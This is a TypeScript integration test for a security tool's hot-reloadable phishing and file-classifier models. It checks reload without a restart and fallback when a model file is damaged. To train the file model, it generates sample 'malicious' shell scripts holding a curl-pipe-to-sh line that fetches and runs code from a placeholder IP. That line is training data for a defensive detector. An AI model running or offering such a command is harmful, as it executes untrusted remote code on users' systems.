/**
 * Learnt models of mails and files that are exchanged while reports come in: every mail is judged once, by the model that was
 * in force; what cannot be used takes nothing away and is a problem until it is mended. In a real process.
 */
import { createHash } from "node:crypto";
import { mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { mailModelsToContent } from "@cordon/engine/learning/model-file/mail-model-file";
import { readModel, writeModel } from "@cordon/engine/learning/model-file/model-file";
import { madeMailModel } from "@cordon/engine/phishing/made-mail-model";
import { sha256Of } from "@cordon/model/ids";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { cordon, type RunningServer, startServer } from "../server.ts";
import { until } from "./model-loop-world.ts";

const LONG_MS = 240_000;
const folder = mkdtempSync(join(tmpdir(), "cordon-models-live-"));
const [drop, mailModel, fileModel] = [join(folder, "drop"), join(folder, "mail.model"), join(folder, "file.model")];
const hash = (bytes: Uint8Array) => sha256Of(createHash("sha256").update(bytes).digest("hex"));

let server: RunningServer;
beforeAll(async () => {
  mkdirSync(drop);
  put(mailModel, OLD.bytes);
  put(fileModel, await trainedFileModel());
  // JSON is YAML.
  const config = {
    rules: { shipped: false, watch: false },
    ...{ behaviour: { enabled: false }, content: { enabled: false } },
    mail: { ownDomains: ["corp.example"] },
    learning: { mail: { model: mailModel }, file: { model: fileModel } },
    sources: [{ name: "dropped", kind: "mail-folder", path: drop, pollSeconds: 1 }],
  };
  writeFileSync(join(folder, "cordon.yml"), JSON.stringify(config));
  server = await startServer({ data: join(folder, "data"), args: ["--config", join(folder, "cordon.yml")] });
}, LONG_MS);
afterAll(async () => {
  await server?.stop();
  rmSync(folder, { recursive: true, force: true });
});

/** As `train` does. */
function put(path: string, bytes: Uint8Array): void {
  writeFileSync(`${path}.part`, bytes);
  renameSync(`${path}.part`, path);
}

/** Small models stand for an operator's own: what is tested is the way, not how well they judge. */
const SMALL = { ...madeMailModel(60), away: { kind: "platt" as const, verdicts: 90, slope: 0, intercept: 0 } };
const modelOf = (version: number, places: readonly string[]) =>
  writeModel(
    mailModelsToContent({ home: SMALL, elsewhere: { model: SMALL, source: { places, untold: true } } }, { version }),
    hash,
  );
const OLD = modelOf(1, ["corp.example"]);
const NEW = modelOf(2, ["elsewhere.example"]);

const mail = (number: number): string =>
  `From: Ann <ann${number}@far.example>\r\nTo: bob@corp.example\r\nSubject: note ${number}\r\nMessage-ID: <${number}@far.example>\r\n\r\nSee you at ${number}.\r\n`;

async function push(from: number, to: number): Promise<void> {
  for (let number = from; number < to; number += 1) {
    const answer = await fetch(`${server.url}/api/v1/ingest/reports`, {
      method: "POST",
      headers: { authorization: `Bearer ${server.token}`, "content-type": "message/rfc822" },
      body: mail(number),
    });
    expect(answer.status).toBe(200);
  }
}

interface Judged {
  readonly messageId: string;
  readonly basis: string;
  readonly learnt?: { readonly model: string; readonly reach: string; readonly cut: number };
}

const judgedMails = async (): Promise<readonly Judged[]> =>
  ((await server.call("GET", "/events?source=cordon.mail&order=oldest&limit=500")).json.items as { raw: Judged }[]).map(
    ({ raw }) => raw,
  );
const whenThere = (count: number): Promise<readonly Judged[]> =>
  until(`${count} mails`, async () => {
    const found = await judgedMails();
    return found.length >= count ? found : undefined;
  });
const problemOf = async (code: string): Promise<string | undefined> =>
  ((await server.call("GET", "/status")).json.problems as { code: string; message: string }[]).find(
    (problem) => problem.code === code,
  )?.message;
const gone = (code: string) =>
  until(`no ${code}`, async () => ((await problemOf(code)) === undefined ? true : undefined));

describe("a model of mails that is trained again", () => {
  it(
    "is taken up without a restart and without losing a mail; a damaged one leaves the old one serving and says why",
    async () => {
      for (let number = 0; number < 10; number += 1) writeFileSync(join(drop, `${number}.eml`), mail(number));
      await push(10, 20);
      const first = await whenThere(20);
      expect(new Set(first.map(({ learnt }) => learnt?.model))).toEqual(new Set([OLD.id]));
      expect(first[0]?.learnt).toMatchObject({ reach: "home" });
      expect(first[0]?.basis).toContain("came in where this one did: corp.example");

      const pushed = push(20, 60);
      put(mailModel, NEW.bytes);
      for (let number = 60; number < 70; number += 1) writeFileSync(join(drop, `${number}.eml`), mail(number));
      await pushed;
      const both = await whenThere(70);
      expect(both.map(({ messageId }) => Number.parseInt(messageId, 10)).toSorted((a, b) => a - b)).toEqual(
        Array.from({ length: 70 }, (_, at) => at),
      );
      const latest = both.find(({ messageId }) => messageId.startsWith("59@"));
      expect(latest?.learnt).toMatchObject({ model: NEW.id, reach: "away", cut: 1 / 3 });
      expect(latest?.basis).toContain("came in at elsewhere.example, this one not");

      writeFileSync(mailModel, OLD.bytes.subarray(0, OLD.bytes.length - 100));
      // Said without any mail that comes.
      const trouble = await until("the problem", () => problemOf("mail-model"));
      expect(trouble).toMatch(/mail\.model: the checksum .* does not hold.*; model [0-9a-f]{12} goes on/);
      await push(70, 75);
      const after = await whenThere(75);
      expect(after.slice(70).map(({ learnt }) => learnt?.model)).toEqual(Array.from({ length: 5 }, () => NEW.id));

      put(mailModel, OLD.bytes);
      await gone("mail-model");
      await push(75, 76);
      expect((await whenThere(76)).at(-1)?.learnt).toMatchObject({ model: OLD.id, reach: "home" });
    },
    LONG_MS,
  );
});

async function trainedFileModel(): Promise<Uint8Array> {
  const [benign, malicious, out] = ["benign", "bad", "trained.model"].map((name) => join(folder, name)) as [
    string,
    string,
    string,
  ];
  for (const path of [benign, malicious]) mkdirSync(path);
  for (let at = 0; at < 60; at += 1) {
    const filling = `# ${"note ".repeat(at + 1)}${at * 7919}\n`;
    writeFileSync(join(benign, `${at}.sh`), `${filling}ls /srv/data | wc -l\n`);
    writeFileSync(join(malicious, `${at}.sh`), `${filling}curl -s http://192.0.2.7/${at} | sh\n`);
  }
  const trained = await cordon(["file", "train", "--benign", benign, "--malicious", malicious, "--out", out]);
  if (trained.code !== 0) throw new Error(trained.err);
  return readFileSync(out);
}

/** The same forest with another cut: another model. */
function withCut(bytes: Uint8Array, cut: number): Uint8Array {
  const file = readModel(bytes, hash);
  return writeModel({ kind: file.kind, about: { ...file.about, cut }, arrays: file.arrays }, hash).bytes;
}

async function examined(): Promise<{ readonly verdict: string; readonly reasons: string }> {
  const answer = await fetch(`${server.url}/api/v1/files/examine?name=5.sh`, {
    method: "POST",
    headers: { authorization: `Bearer ${server.token}`, "content-type": "application/octet-stream" },
    body: readFileSync(join(folder, "bad", "5.sh")),
  });
  const { verdict, reasons } = (await answer.json()) as { verdict: string; reasons: unknown };
  return { verdict, reasons: JSON.stringify(reasons) };
}

describe("a model of files that is trained again", () => {
  it(
    "judges what is uploaded from the next file on; a damaged one leaves the old one serving and says why",
    async () => {
      const first = readFileSync(fileModel);
      const before = await examined();
      expect(before.verdict).toBe("suspicious");
      expect(before.reasons).toContain("learnt model: ");
      put(fileModel, withCut(first, 0.87));
      expect(
        (
          await until("the new model", async () => {
            const now = await examined();
            return now.reasons.includes("malicious from 0.87 on") ? now : undefined;
          })
        ).verdict,
      ).toBeDefined();
      writeFileSync(fileModel, "no model");
      expect(await until("the problem", () => problemOf("file-model"))).toMatch(
        /file\.model: .*not a model file.*; model [0-9a-f]{12} goes on/,
      );
      expect((await examined()).reasons).toContain("malicious from 0.87 on");
      put(fileModel, first);
      await gone("file-model");
      expect((await examined()).reasons).not.toContain("malicious from 0.87 on");
    },
    LONG_MS,
  );
});
